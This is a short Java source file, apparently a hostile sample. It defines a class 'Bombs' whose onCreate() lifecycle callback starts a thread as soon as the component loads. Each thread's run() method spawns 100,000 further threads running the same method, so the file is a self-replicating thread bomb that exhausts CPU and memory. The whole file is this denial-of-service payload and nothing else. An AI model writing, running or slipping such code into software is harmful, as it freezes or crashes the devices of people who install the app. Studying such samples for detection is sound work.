package com.example.hostile_beginnings;

public class Bombs extends Quiet implements Runnable {
    @Override
    public boolean onCreate() {
        new Thread(this).start();
        return true;
    }

    @Override
    public void run() {
        for (int at = 0; at < 100000; at++) {
            new Thread(this).start();
        }
    }
}
